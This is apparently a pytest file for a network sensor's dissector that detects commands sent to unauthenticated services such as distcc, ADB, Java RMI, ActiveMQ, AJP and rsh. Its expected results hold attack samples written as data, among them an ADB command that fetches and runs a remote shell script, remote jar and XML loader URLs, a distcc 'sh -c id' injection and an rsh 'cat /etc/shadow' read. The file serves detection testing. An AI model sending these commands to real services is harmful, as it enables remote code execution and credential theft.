"""Commands for services without a login."""

from __future__ import annotations

import struct

import pytest

from sensor.core.dissector import Stream
from sensor.core.packet import Packet
from sensor.dissectors.service_command import ServiceCommands
from tests.dissectors.samples import events, packets

EXPECTED = {
    49500: [("ServiceCommand", "distcc", "gcc -O2 -c main.c")],
    49501: [("ServiceCommand", "distcc", "sh -c id # -c main.c -o main.o")],
    49502: [("ServiceCommand", "jdwp", "handshake")],
    49503: [
        ("ServiceCommand", "adb", "shell:getprop"),
        (
            "ServiceCommand",
            "adb",
            "shell:cd /data/local/tmp; busybox wget http://198.51.100.7/w.sh; sh w.sh",
        ),
    ],
    49504: [
        ("ServiceCommand", "rmi", "java.rmi.server.ObjID"),
        ("ServiceCommand", "rmi", "http://198.51.100.7:8080/a/x.jar"),
        ("ServiceCommand", "rmi", "metasploit.RMILoader"),
    ],
    49505: [
        ("ServiceCommand", "openwire", "org.springframework.context.support.ClassPathXmlApplicationContext"),
        ("ServiceCommand", "openwire", "http://198.51.100.7/poc.xml"),
    ],
    49506: [
        ("ServiceCommand", "ajp", "javax.servlet.include.request_uri /"),
        ("ServiceCommand", "ajp", "javax.servlet.include.path_info WEB-INF/web.xml"),
        ("ServiceCommand", "ajp", "javax.servlet.include.servlet_path /"),
    ],
    49507: [("ServiceCommand", "drb", "instance_eval")],
    49508: [("ServiceCommand", "unrealircd", "AB;id")],
}


def test_commands_of_each_connection() -> None:
    """Each connection of the sample yields its commands, also in segments of a few bytes."""
    streams: dict[int, Stream] = {}
    found: dict[int, list[tuple[object, ...]]] = {port: [] for port in EXPECTED}
    for packet in packets("service_command")[:-1]:
        stream = streams.setdefault(packet.sport, ServiceCommands().stream(packet))
        if not stream.done:
            found[packet.sport] += events(stream.feed(packet, bytes(packet.payload), True))
    assert found == EXPECTED


def test_a_command_in_a_datagram() -> None:
    """A command for the backdoor of Netcore's routers; other datagrams to the port, and answers, yield nothing."""
    packet = packets("service_command")[-1]
    assert events(ServiceCommands().dissect(packet)) == [("ServiceCommand", "netcore", "cd /tmp; ls")]
    for other in (Packet(b"AA\0\0AAAA id", sport=53413), Packet(b"AAAA", dport=53413)):
        assert events(ServiceCommands().dissect(other)) == []


def test_a_handshake_in_pieces() -> None:
    """A message is read when it is complete; after a gap the next message is read."""
    stream, packet = ServiceCommands().stream(Packet()), Packet()
    assert events(stream.feed(packet, b"JDWP-Ha", True)) == []
    assert events(stream.feed(packet, b"ndshake", True)) == [("ServiceCommand", "jdwp", "handshake")]
    assert stream.done
    stream = ServiceCommands().stream(packet)
    assert events(stream.feed(packet, b"t3 12.2.1\n", True)) == []
    assert list(stream.gap(packet, 100, True)) == []
    assert events(stream.feed(packet, b"DIST00000001ARGC00000001ARGV00000002ls", True)) == [
        ("ServiceCommand", "distcc", "ls")
    ]


def test_a_long_command_of_a_bridge() -> None:
    """The beginning of a command is read, however long it is; the rest is skipped."""
    long, short = b"shell:wget" + b" " * 9000 + b"\0", b"shell:id\0"
    data = b"".join(struct.pack("<4s8xI4x4s", b"OPEN", len(text), b"\xb0\xaf\xba\xb1") + text for text in (long, short))
    stream = ServiceCommands().stream(Packet())
    found = []
    for at in range(0, len(data), 1400):
        found += events(stream.feed(Packet(), data[at : at + 1400], True))
    assert [str(each[2]).strip() for each in found] == ["shell:wget", "shell:id"]


@pytest.mark.parametrize(
    "data", [b"GET / HTTP/1.1\r\n", b"DISTANCE 4\r\n", b"t3 1\r\n", b"\0\0\0\x08\x1f\0\0\0\0\0\0\0"]
)
def test_other_protocols_are_left_alone(data: bytes) -> None:
    """Other data, and answers of a server, yield nothing."""
    assert events(ServiceCommands().stream(Packet()).feed(Packet(), data, True)) == []
    assert events(ServiceCommands().stream(Packet()).feed(Packet(), b"DIST00000001ARGV00000002ls", False)) == []


def shell(port: int, *parts: bytes) -> list[tuple[object, ...]]:
    """The events of a client's segments to a port."""
    stream = ServiceCommands().stream(Packet())
    return [one for part in parts for one in events(stream.feed(Packet(part, dport=port), part, True))]


def test_remote_shells() -> None:
    """Logins over rlogin and commands over rsh, in any segments; log messages on their ports are none."""
    login, command = b"\0anna\0root\0xterm/38400\0", b"1022\0anna\0root\0cat /etc/shadow\0"
    for port, data, text in ((513, login, "USER root xterm/38400"), (514, command, "USER root cat /etc/shadow")):
        want = [("ServiceCommand", "rlogin" if port == 513 else "rsh", text)]
        assert shell(port, data) == shell(port, *(bytes((byte,)) for byte in data)) == want
    assert shell(514, b"<34>Oct 11 22:14:15 host su: failed\n") == shell(513, b"GET / HTTP/1.0\r\n\r\n") == []
    assert shell(513, b"\0anna\0root\0") == []
